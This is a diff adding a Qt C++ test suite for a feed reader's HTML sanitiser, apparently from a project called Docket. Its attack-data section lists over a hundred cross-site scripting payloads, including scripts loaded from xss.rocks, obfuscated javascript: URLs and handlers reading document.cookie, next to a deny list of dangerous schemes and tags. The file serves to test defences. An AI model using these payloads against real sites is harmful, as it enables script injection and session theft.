@@ -1,0 +1,550 @@
+// Article HTML is hostile: what survives the sanitiser, and what never does.
+#include "htmlsanitizer.h"
+#include "testdata.h"
+#include "textdecoder.h"
+
+#include <QDir>
+#include <QElapsedTimer>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QSet>
+#include <QTest>
+#include <QXmlStreamReader>
+
+#include <functional>
+
+class TestHtmlSanitizer : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void neutralisesAttacks_data();
+    void neutralisesAttacks();
+    void keepsArticleMarkup_data();
+    void keepsArticleMarkup();
+    void withoutBaseDropsRelativeAddresses();
+    void flattensDeepNesting();
+    void staysLinearOnHostileInput_data();
+    void staysLinearOnHostileInput();
+    void realFeedsComeOutClean();
+};
+
+namespace {
+
+const QUrl base(QStringLiteral("https://courts.example/news/2024/ruling.html"));
+
+const QSet<QString> allowedElements = {
+    QStringLiteral("p"),          QStringLiteral("div"),     QStringLiteral("h1"),
+    QStringLiteral("h2"),         QStringLiteral("h3"),      QStringLiteral("h4"),
+    QStringLiteral("h5"),         QStringLiteral("h6"),      QStringLiteral("pre"),
+    QStringLiteral("blockquote"), QStringLiteral("center"),  QStringLiteral("address"),
+    QStringLiteral("ul"),         QStringLiteral("ol"),      QStringLiteral("li"),
+    QStringLiteral("dl"),         QStringLiteral("dt"),      QStringLiteral("dd"),
+    QStringLiteral("hr"),         QStringLiteral("br"),      QStringLiteral("img"),
+    QStringLiteral("table"),      QStringLiteral("caption"), QStringLiteral("thead"),
+    QStringLiteral("tbody"),      QStringLiteral("tfoot"),   QStringLiteral("tr"),
+    QStringLiteral("th"),         QStringLiteral("td"),      QStringLiteral("a"),
+    QStringLiteral("span"),       QStringLiteral("b"),       QStringLiteral("strong"),
+    QStringLiteral("i"),          QStringLiteral("em"),      QStringLiteral("u"),
+    QStringLiteral("s"),          QStringLiteral("sub"),     QStringLiteral("sup"),
+    QStringLiteral("small"),      QStringLiteral("big"),     QStringLiteral("code"),
+    QStringLiteral("tt"),         QStringLiteral("kbd"),     QStringLiteral("samp"),
+    QStringLiteral("var"),        QStringLiteral("dfn"),     QStringLiteral("cite"),
+    QStringLiteral("abbr"),
+};
+
+const QSet<QString> allowedAttributes = {
+    QStringLiteral("href"),        QStringLiteral("src"),     QStringLiteral("alt"),
+    QStringLiteral("title"),       QStringLiteral("width"),   QStringLiteral("height"),
+    QStringLiteral("colspan"),     QStringLiteral("rowspan"), QStringLiteral("align"),
+    QStringLiteral("start"),       QStringLiteral("border"),  QStringLiteral("cellpadding"),
+    QStringLiteral("cellspacing"),
+};
+
+// Everything wrong with a sanitiser's output; empty when it is safe. The
+// output is read as XML, so it must be well-formed for this to pass at all.
+QStringList problems(const QString &html, int maxDepth = 64)
+{
+    QStringList found;
+    QXmlStreamReader xml(QStringLiteral("<root>") + html + QStringLiteral("</root>"));
+    int depth = -1;
+    while (!xml.atEnd()) {
+        xml.readNext();
+        if (xml.isEndElement())
+            --depth;
+        if (!xml.isStartElement())
+            continue;
+        if (++depth > maxDepth)
+            found.append(QStringLiteral("nested %1 deep").arg(depth));
+        const QString name = xml.name().toString();
+        if (depth > 0 && !allowedElements.contains(name))
+            found.append(QStringLiteral("element <%1>").arg(name));
+        for (const QXmlStreamAttribute &attribute : xml.attributes()) {
+            const QString attributeName = attribute.name().toString();
+            const QString value = attribute.value().toString();
+            if (!allowedAttributes.contains(attributeName) || attributeName.startsWith(QStringLiteral("on")))
+                found.append(QStringLiteral("attribute %1=\"%2\"").arg(attributeName, value));
+            // What a browser would read past: white space and control characters.
+            QString squeezed;
+            for (const QChar c : value) {
+                if (c.unicode() > 0x20)
+                    squeezed.append(c.toLower());
+            }
+            for (const char *bad :
+                 {"javascript:", "vbscript:", "livescript:", "data:", "url(", "expression("}) {
+                if (squeezed.contains(QLatin1String(bad)))
+                    found.append(
+                        QStringLiteral("%1 in %2=\"%3\"").arg(QLatin1String(bad), attributeName, value));
+            }
+            if (attributeName == u"href" || attributeName == u"src") {
+                const QUrl url(value);
+                const QString scheme = url.scheme();
+                const bool web = scheme == u"http" || scheme == u"https";
+                if (!(web || (attributeName == u"href" && scheme == u"mailto")) || url.isRelative())
+                    found.append(QStringLiteral("address %1=\"%2\"").arg(attributeName, value));
+            }
+        }
+    }
+    if (xml.hasError())
+        found.append(
+            QStringLiteral("not well-formed: %1 at %2").arg(xml.errorString()).arg(xml.characterOffset()));
+    for (const char *tag : {"<script", "<style", "<iframe", "<object", "<embed", "<svg", "<math", "<form",
+                            "<meta", "<link", "<base"}) {
+        if (html.contains(QLatin1String(tag), Qt::CaseInsensitive))
+            found.append(QStringLiteral("tag %1").arg(QLatin1String(tag)));
+    }
+    return found;
+}
+
+QString withNul(const char *before, const char *after)
+{
+    return QLatin1String(before) + QChar(0) + QLatin1String(after);
+}
+
+} // namespace
+
+void TestHtmlSanitizer::neutralisesAttacks_data()
+{
+    QTest::addColumn<QString>("html");
+
+    // In the spirit of the OWASP XSS filter evasion cheat sheet.
+    const auto row = [](const char *name, const char *html) {
+        QTest::newRow(name) << QString::fromUtf8(html);
+    };
+    row("script element", "<script>alert('XSS')</script>");
+    row("script with src", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>");
+    row("img javascript", "<IMG SRC=\"javascript:alert('XSS');\">");
+    row("img javascript unquoted", "<IMG SRC=javascript:alert('XSS')>");
+    row("img mixed case scheme", "<IMG SRC=JaVaScRiPt:alert('XSS')>");
+    row("img quote entities", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>");
+    row("img backticks", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>");
+    row("anchor onmouseover quoted", "<a onmouseover=\"alert(document.cookie)\">xxs link</a>");
+    row("anchor onmouseover unquoted", "<a onmouseover=alert(document.cookie)>xxs link</a>");
+    row("malformed img quotes", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>");
+    row("fromCharCode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>");
+    row("img hash onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">");
+    row("img empty src onmouseover", "<IMG SRC= onmouseover=\"alert('xxs')\">");
+    row("img without src", "<IMG onmouseover=\"alert('xxs')\">");
+    row("img onerror", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>");
+    row("onerror encoded",
+        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
+        "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
+        "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">");
+    row("decimal references",
+        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
+        "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>");
+    row("decimal references padded, no semicolons",
+        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
+        "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
+        "&#0000039&#0000041>");
+    row("hex references without semicolons",
+        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
+        "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>");
+    row("anchor decimal references",
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
+        "alert(1)\">x</a>");
+    row("anchor upper-case hex reference", "<a href=\"&#X6A;avascript:alert(1)\">x</a>");
+    row("anchor partial reference", "<a href=\"jav&#x61;script:alert(1)\">x</a>");
+    row("embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">");
+    row("encoded tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">");
+    row("encoded newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">");
+    row("encoded carriage return", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">");
+    row("named tab reference", "<a href=\"java&Tab;script:alert(1)\">x</a>");
+    row("named newline reference", "<a href=\"&NewLine;javascript:alert(1)\">x</a>");
+    row("named colon reference", "<a href=\"javascript&colon;alert(1)\">x</a>");
+    row("spaces and control before scheme", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">");
+    row("control character prefix", "<a href=\"\x01javascript:alert(1)\">x</a>");
+    row("upper-case scheme after spaces", "<a href=\"  JAVASCRIPT:alert(1)\">x</a>");
+    row("non-alpha after tag name", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>");
+    row("odd characters in attribute name", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>");
+    row("slash instead of space", "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>");
+    row("extra open brackets", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>");
+    row("script never closed", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >");
+    row("protocol-relative script", "<SCRIPT SRC=//xss.rocks/.j>");
+    row("half-open img", "<IMG SRC=\"`<javascript:alert>`('XSS')\"");
+    row("double open angle iframe", "<iframe src=http://xss.rocks/scriptlet.html <");
+    row("closing title first", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>");
+    row("input image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">");
+    row("body background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">");
+    row("img dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">");
+    row("img lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">");
+    row("list-style-image",
+        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>");
+    row("vbscript image", "<IMG SRC='vbscript:msgbox(\"XSS\")'>");
+    row("vbscript and livescript links",
+        "<a href=\"vbscript:msgbox(1)\">v</a><a href=\"livescript:alert(1)\">l</a>");
+    row("mocha link", "<a href=\"mocha:[code]\">m</a>");
+    row("svg onload", "<svg/onload=alert('XSS')>");
+    row("svg with script", "<svg><script>alert(1)</script></svg>after");
+    row("svg style hiding img", "<svg><style><img src=x onerror=alert(1)></style></svg>");
+    row("body onload", "<BODY ONLOAD=alert('XSS')>");
+    row("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">");
+    row("stylesheet link", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">");
+    row("style import", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>");
+    row("meta refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">");
+    row("meta refresh data", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
+                             "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">");
+    row("iframe javascript", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>");
+    row("iframe onmouseover", "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>");
+    row("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>");
+    row("table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">");
+    row("td background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">");
+    row("div background-image", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>");
+    row("div expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>");
+    row("img style expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">");
+    row("style tag as script", "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>");
+    row("style class background", "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE>"
+                                  "<A CLASS=XSS></A>");
+    row("style body background",
+        "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>");
+    row("base href", "<BASE HREF=\"javascript:alert('XSS');//\"><a href=\"x\">x</a>");
+    row("object scriptlet",
+        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>");
+    row("object javascript data", "<object data=\"javascript:alert(1)\">fallback</object>");
+    row("embed svg data",
+        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9\" type=\"image/svg+xml\" "
+        "AllowScriptAccess=\"always\"></EMBED>");
+    row("applet", "<applet code=\"Evil.class\">x</applet>");
+    row("comment splitting scheme", "<I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I>");
+    row("conditional comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->");
+    row("downlevel-revealed conditional", "<![if !IE]><script>alert(1)</script><![endif]>");
+    row("comment ended inside attribute", "<!--<img src=\"--><img src=x onerror=alert(1)//\">");
+    row("comment ended by --!>", "<!-- x --!><img src=x onerror=alert(1)>");
+    row("CDATA outside foreign content", "<![CDATA[<script>alert(1)</script>]]>");
+    row("HTML+TIME",
+        "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">"
+        "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
+        "to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>");
+    row("script attribute holding >", "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>");
+    row("script attribute without name", "<SCRIPT =\"blah\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>");
+    row("script stray quotes", "<SCRIPT a=\"blah\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>");
+    row("script quoted attribute name", "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>");
+    row("script backtick value", "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>");
+    row("script mixed quotes", "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>");
+    row("document.write split",
+        "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\">"
+        "</SCRIPT>");
+    row("nested script in name", "<scr<script>ipt>alert(1)</scr</script>ipt>");
+    row("data URL link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>");
+    row("data URL image", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">");
+    row("srcset", "<img src=\"https://cdn.example/a.png\" srcset=\"javascript:alert(1) 1x\">");
+    row("noscript attribute breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">");
+    row("mathml mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>");
+    row("form actions",
+        "<form action=\"javascript:alert(1)\"><input type=submit formaction=\"javascript:alert(2)\">"
+        "<button formaction=javascript:alert(3)>x</button></form>");
+    row("button outside form", "<button formaction=javascript:alert(3)>x</button>");
+    row("isindex", "<isindex action=javascript:alert(1) type=image>");
+    row("autofocus onfocus", "<a href=\"javascript:alert(1)\" title=\"x\" onfocus=alert(1) autofocus>x</a>");
+    row("details ontoggle", "<details open ontoggle=alert(1)>x</details>");
+    row("video source onerror", "<video><source onerror=\"alert(1)\"></video>");
+    row("audio onerror", "<audio src=x onerror=alert(1)>");
+    row("video javascript source",
+        "<video src=\"javascript:alert(1)\" poster=\"javascript:alert(2)\"></video>");
+    row("template", "<template><script>alert(1)</script></template>");
+    row("double angle img", "<<img src=x onerror=alert(1)//<");
+    row("eval of src", "<img src=x:alert(alt) onerror=eval(src) alt=0>");
+    row("plaintext swallowing", "<p>text</p><plaintext><script>alert(1)</script>");
+    row("textarea content", "<textarea><script>alert(1)</script></textarea>");
+    row("title content", "<title><script>alert(1)</script></title>");
+    row("xmp content", "<xmp><script>alert(1)</script></xmp>");
+    row("style and class and id",
+        "<div style=\"color:red\" class=\"x\" id=\"y\" onclick=\"alert(1)\">t</div>");
+    row("unclosed attribute quote", "<a href=\"https://ok.example/\" title=\"<script>alert(1)</script>");
+    row("unclosed tag at end", "<p>fine</p><img src=\"https://ok.example/a.png\" onerror=alert(1)");
+    row("attribute without value", "<img src onerror=alert(1)>");
+    row("entity-escaped markup", "&lt;script&gt;alert(1)&lt;/script&gt;");
+    QTest::newRow("NUL inside scheme") << (withNul("<IMG SRC=java", "script:alert(\"XSS\")>"));
+    QTest::newRow("NUL inside tag name") << (withNul("<scr", "ipt>alert(1)</script>"));
+}
+
+void TestHtmlSanitizer::neutralisesAttacks()
+{
+    QFETCH(QString, html);
+    const QString clean = HtmlSanitizer::sanitize(html, base);
+    const QStringList found = problems(clean);
+    QVERIFY2(found.isEmpty(), qPrintable(found.join(QStringLiteral("; ")) + QStringLiteral(" in: ") + clean));
+}
+
+void TestHtmlSanitizer::keepsArticleMarkup_data()
+{
+    QTest::addColumn<QString>("html");
+    QTest::addColumn<QString>("expected");
+
+    const auto row = [](const char *name, const char *html, const char *expected) {
+        QTest::newRow(name) << QString::fromUtf8(html) << QString::fromUtf8(expected);
+    };
+    row("paragraphs and emphasis", "<p>The <b>court</b> <em>held</em>:</p><p>Affirmed.</p>",
+        "<p>The <b>court</b> <em>held</em>:</p><p>Affirmed.</p>");
+    row("links resolved against the base",
+        "<a href=\"/opinions/23-456.pdf\">opinion</a> <a href=\"../brief.html\">brief</a> "
+        "<a href=\"#fn1\">1</a> <a href=\"//other.example/x\">x</a>",
+        "<a href=\"https://courts.example/opinions/23-456.pdf\">opinion</a> "
+        "<a href=\"https://courts.example/news/brief.html\">brief</a> "
+        "<a href=\"https://courts.example/news/2024/ruling.html#fn1\">1</a> "
+        "<a href=\"https://other.example/x\">x</a>");
+    row("mailto and title kept, target and rel dropped",
+        "<a href=\"mailto:clerk@courts.example\" title=\"Write to the clerk\" target=\"_blank\" "
+        "rel=\"noopener\">"
+        "clerk</a>",
+        "<a href=\"mailto:clerk@courts.example\" title=\"Write to the clerk\">clerk</a>");
+    row("link without a safe target becomes text",
+        "<a name=\"top\">Top</a> <a href=\"ftp://x.example/\">ftp</a>", "Top ftp");
+    row("images keep http(s) sources and sizes",
+        "<img src=\"judge.jpg\" alt=\"Judge Doe\" width=\"300\" height=\"200px\" class=\"wp-image\" "
+        "loading=\"lazy\">",
+        "<img src=\"https://courts.example/news/2024/judge.jpg\" alt=\"Judge Doe\" width=\"300\" "
+        "height=\"200\"/>");
+    row("image with percent width and bad height",
+        "<img src=\"http://cdn.example/a.png\" width=\"50%\" height=\"x\">",
+        "<img src=\"http://cdn.example/a.png\" width=\"50%\"/>");
+    row("tracking pixel 1x1 removed",
+        "<p>Text<img src=\"https://t.example/p.gif\" width=\"1\" height=\"1\"></p>", "<p>Text</p>");
+    row("tracking pixel 0x0 removed", "<img src=\"https://t.example/p.gif\" width=0 height=0 alt=\"\">", "");
+    row("tracking pixel with one side 0 removed", "<img src=\"https://t.example/p.gif\" height=\"0\">", "");
+    row("tracking pixel in px removed", "<img src=\"https://t.example/p.gif\" width=\"1px\" height=\"1px\">",
+        "");
+    row("small but visible image kept", "<img src=\"https://x.example/i.png\" width=\"16\" height=\"16\">",
+        "<img src=\"https://x.example/i.png\" width=\"16\" height=\"16\"/>");
+    row("unordered and ordered lists", "<ul><li>One<li>Two</ul><ol start=\"3\"><li>Three</li></ol>",
+        "<ul><li>One</li><li>Two</li></ul><ol start=\"3\"><li>Three</li></ol>");
+    row("definition list", "<dl><dt>Plaintiff<dd>Doe<dt>Defendant<dd>Roe</dl>",
+        "<dl><dt>Plaintiff</dt><dd>Doe</dd><dt>Defendant</dt><dd>Roe</dd></dl>");
+    row("table with spans and alignment",
+        "<table border=\"1\" style=\"width:100%\"><thead><tr><th colspan=\"2\" "
+        "align=\"LEFT\">Docket</th></tr>"
+        "</thead><tbody><tr><td rowspan=\"2\" valign=\"top\">1</td><td>Complaint</td></tr></tbody></table>",
+        "<table border=\"1\"><thead><tr><th colspan=\"2\" align=\"left\">Docket</th></tr></thead><tbody><tr>"
+        "<td rowspan=\"2\">1</td><td>Complaint</td></tr></tbody></table>");
+    row("table cells never closed", "<table><tr><td>a<td>b<tr><td>c</table>after",
+        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>after");
+    row("table parts outside a table dropped", "<tr><td>lonely</td></tr>", "lonely");
+    row("paragraphs never closed", "<p>One<p>Two<div>Three</div>", "<p>One</p><p>Two</p><div>Three</div>");
+    row("headings, quotes, code",
+        "<h2>Held</h2><blockquote><p>Quoted</p></blockquote><pre><code>x &lt; y</code></pre>",
+        "<h2>Held</h2><blockquote><p>Quoted</p></blockquote><pre><code>x &lt; y</code></pre>");
+    row("struck and inserted text", "<del>old</del> <strike>older</strike> <ins>new</ins> <s>gone</s>",
+        "<s>old</s> <s>older</s> <u>new</u> <s>gone</s>");
+    row("inline quotation", "He said <q>no</q>.", "He said <span>\u201cno\u201d</span>.");
+    row("figure and caption",
+        "<figure><img src=\"https://x.example/f.png\" alt=\"Exhibit A\"><figcaption>Exhibit A"
+        "</figcaption></figure>",
+        "<div><img src=\"https://x.example/f.png\" alt=\"Exhibit A\"/><p>Exhibit A</p></div>");
+    row("sectioning as blocks", "<article><header><h1>T</h1></header><section>S</section></article>",
+        "<div><div><h1>T</h1></div><div>S</div></div>");
+    row("abbreviation keeps its title", "<abbr title=\"Supreme Court of the United States\">SCOTUS</abbr>",
+        "<abbr title=\"Supreme Court of the United States\">SCOTUS</abbr>");
+    row("sub, sup, small, big, kbd, tt",
+        "x<sub>1</sub>y<sup>2</sup><small>s</small><big>b</big><kbd>k</kbd><tt>t</tt>",
+        "x<sub>1</sub>y<sup>2</sup><small>s</small><big>b</big><kbd>k</kbd><tt>t</tt>");
+    row("unknown and dropped wrappers keep their text",
+        "<font color=red>red</font> <custom-tag>c</custom-tag> <label>l</label> <mark>m</mark>",
+        "red c l <span>m</span>");
+    row("script and style removed with content", "<p>a<script>alert(1)</script>b<style>p{}</style>c</p>",
+        "<p>abc</p>");
+    row("video becomes a link to its source",
+        "<video controls poster=\"p.jpg\"><source src=\"argument.mp4\" type=\"video/mp4\">Your "
+        "browser...</video>",
+        "<a "
+        "href=\"https://courts.example/news/2024/argument.mp4\">https://courts.example/news/2024/"
+        "argument.mp4</a>");
+    row("audio with src attribute", "<audio src=\"http://media.example/oral.mp3\"></audio>",
+        "<a href=\"http://media.example/oral.mp3\">http://media.example/oral.mp3</a>");
+    row("entities decoded and escaped once", "AT&amp;T &lt;b&gt; &quot;q&quot; caf&eacute; &#8212; &#x2019;",
+        "AT&amp;T &lt;b&gt; &quot;q&quot; caf\u00e9 \u2014 \u2019");
+    row("bare ampersand and angle brackets", "a & b < c > d", "a &amp; b &lt; c &gt; d");
+    row("comments and doctype removed", "<!DOCTYPE html><!-- note -->text<?php echo 1; ?>", "text");
+    row("html, head and body unwrapped",
+        "<html><head><title>T</title><meta charset=utf-8></head><body><p>B</p></body>"
+        "</html>",
+        "<p>B</p>");
+    row("end br read as br", "a</br>b", "a<br/>b");
+    row("self-closing tags from XHTML", "<p>a<br/>b</p><div/>c<hr/>", "<p>a<br/>b</p><div></div>c<hr/>");
+    row("unclosed inline closed at the end", "<b>bold <i>both", "<b>bold <i>both</i></b>");
+    row("stray end tags ignored", "</div></p>text</b>", "text");
+    row("nested links closed", "<a href=\"/a\">A<a href=\"/b\">B</a>",
+        "<a href=\"https://courts.example/a\">A</a><a href=\"https://courts.example/b\">B</a>");
+    row("control characters removed",
+        "a\x01"
+        "b\x0b"
+        "c\r\nd",
+        "abc\nd");
+}
+
+void TestHtmlSanitizer::keepsArticleMarkup()
+{
+    QFETCH(QString, html);
+    QFETCH(QString, expected);
+    const QString clean = HtmlSanitizer::sanitize(html, base);
+    QCOMPARE(clean, expected);
+    QVERIFY2(problems(clean).isEmpty(), qPrintable(problems(clean).join(QStringLiteral("; "))));
+}
+
+void TestHtmlSanitizer::withoutBaseDropsRelativeAddresses()
+{
+    const QString html = QStringLiteral("<a href=\"/x\">rel</a> <a href=\"https://abs.example/\">abs</a>"
+                                        "<img src=\"a.png\"><img src=\"https://abs.example/b.png\">");
+    QCOMPARE(HtmlSanitizer::sanitize(html, QUrl()),
+             QStringLiteral(
+                 "rel <a href=\"https://abs.example/\">abs</a><img src=\"https://abs.example/b.png\"/>"));
+    // A file: base is not a web address either: relative links cannot reach local files.
+    QCOMPARE(HtmlSanitizer::sanitize(html, QUrl(QStringLiteral("file:///home/jane/feed.xml"))),
+             QStringLiteral(
+                 "rel <a href=\"https://abs.example/\">abs</a><img src=\"https://abs.example/b.png\"/>"));
+}
+
+void TestHtmlSanitizer::flattensDeepNesting()
+{
+    QString html;
+    for (int i = 0; i < 1000; ++i)
+        html += QStringLiteral("<div><b>");
+    html += QStringLiteral("deep");
+    const QString clean = HtmlSanitizer::sanitize(html, base);
+    QVERIFY(clean.contains(QStringLiteral("deep")));
+    QVERIFY2(problems(clean, 64).isEmpty(), qPrintable(problems(clean, 64).join(QStringLiteral("; "))));
+
+    HtmlSanitizer::Options options;
+    options.maxDepth = 3;
+    QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<div><div><div><div><p>x</p></div></div></div></div>y"),
+                                     base, options),
+             QStringLiteral("<div><div><div>x</div></div></div>y"));
+}
+
+void TestHtmlSanitizer::staysLinearOnHostileInput_data()
+{
+    QTest::addColumn<QString>("unit");
+    QTest::addColumn<int>("megabytes");
+
+    // Ten megabytes of unclosed tags, as the reader may meet; two of the
+    // rest, which is plenty to show anything quadratic.
+    const auto row = [](const char *name, const char *unit, int megabytes) {
+        QTest::newRow(name) << QString::fromUtf8(unit) << megabytes;
+    };
+    row("unclosed divs", "<div>", 10);
+    row("unclosed formatting", "<b><i><u>", 10);
+    row("unclosed paragraphs", "<p>x", 10);
+    row("unclosed list items", "<ul><li>", 10);
+    row("unclosed cells", "<table><tr><td>", 10);
+    row("spans then paragraphs", "<span><p>", 10);
+    row("unknown tags", "<x-y z>", 10);
+    row("links", "<a href=\"/x\">", 2);
+    row("images", "<img src=\"a.png\" alt=\"a\">", 2);
+    row("unclosed comment start", "<!--", 2);
+    row("bare angles", "<<<>>>", 2);
+    row("broken references", "&#&#x&amp&", 2);
+    row("svg opened", "<svg>", 2);
+    row("end tags", "</div></b>", 2);
+    row("script end look-alikes", "<script></scrip", 2);
+    row("one tag, endless attributes", "a=1 ", 2);
+}
+
+void TestHtmlSanitizer::staysLinearOnHostileInput()
+{
+    QFETCH(QString, unit);
+    QFETCH(int, megabytes);
+    QString html = QStringLiteral("<p ");
+    html.reserve(megabytes * 1024 * 1024 + unit.size());
+    if (!unit.startsWith(u"a="))
+        html.clear();
+    while (html.size() < megabytes * 1024 * 1024)
+        html += unit;
+
+    // Well under a second here; the bound leaves room for sanitiser builds
+    // and a busy machine, and still catches anything quadratic (hours).
+    QElapsedTimer timer;
+    timer.start();
+    const QString clean = HtmlSanitizer::sanitize(html, base);
+    const qint64 elapsed = timer.elapsed();
+    QVERIFY2(elapsed < 15000, qPrintable(QStringLiteral("took %1 ms").arg(elapsed)));
+    QVERIFY(clean.size() < 8 * html.size());
+    const QStringList found = problems(clean);
+    QVERIFY2(found.isEmpty(), qPrintable(found.mid(0, 3).join(QStringLiteral("; "))));
+}
+
+namespace {
+
+// The HTML bodies of a feed's items, read without Docket's feed parser so
+// this test depends on the sanitiser alone.
+QStringList itemBodies(const QByteArray &bytes, bool json)
+{
+    QStringList bodies;
+    if (json) {
+        const QJsonArray items =
+            QJsonDocument::fromJson(bytes).object().value(QStringLiteral("items")).toArray();
+        for (const QJsonValue &item : items) {
+            for (const char *key : {"content_html", "summary", "content_text"}) {
+                const QString body = item.toObject().value(QLatin1String(key)).toString();
+                if (!body.isEmpty())
+                    bodies.append(body);
+            }
+        }
+        return bodies;
+    }
+    QXmlStreamReader xml(TextDecoder::decodeXml(bytes).text);
+    while (!xml.atEnd() && !xml.hasError()) {
+        xml.readNext();
+        const QStringView name = xml.name();
+        if (xml.isStartElement() &&
+            (name == u"description" || name == u"encoded" || name == u"content" || name == u"summary")) {
+            const QString body = xml.readElementText(QXmlStreamReader::IncludeChildElements);
+            if (!body.trimmed().isEmpty())
+                bodies.append(body);
+        }
+    }
+    return bodies;
+}
+
+} // namespace
+
+void TestHtmlSanitizer::realFeedsComeOutClean()
+{
+    const QDir folder(TestData::path(QStringLiteral("feeds")));
+    const QStringList files = folder.entryList(QDir::Files, QDir::Name);
+    QVERIFY2(files.size() >= 40, qPrintable(folder.path()));
+    int bodies = 0;
+    int withLinks = 0;
+    for (const QString &file : files) {
+        if (file == u"README.md")
+            continue;
+        QFile input(folder.filePath(file));
+        QVERIFY(input.open(QIODevice::ReadOnly));
+        const QStringList contents = itemBodies(input.readAll(), file.endsWith(u".json"));
+        for (const QString &html : contents) {
+            const QString clean = HtmlSanitizer::sanitize(html, base);
+            const QStringList found = problems(clean);
+            QVERIFY2(found.isEmpty(),
+                     qPrintable(file + QStringLiteral(": ") + found.join(QStringLiteral("; "))));
+            if (clean.contains(QStringLiteral("<a href=\"http")))
+                ++withLinks;
+            ++bodies;
+        }
+    }
+    // Real articles are mostly harmless: the sanitiser must not have thrown
+    // their links away along with the hostile parts.
+    QVERIFY2(bodies > 1000, qPrintable(QString::number(bodies)));
+    QVERIFY2(withLinks > bodies / 4, qPrintable(QStringLiteral("%1 of %2").arg(withLinks).arg(bodies)));
+}
+
+QTEST_GUILESS_MAIN(TestHtmlSanitizer)
+#include "tst_htmlsanitizer.moc"
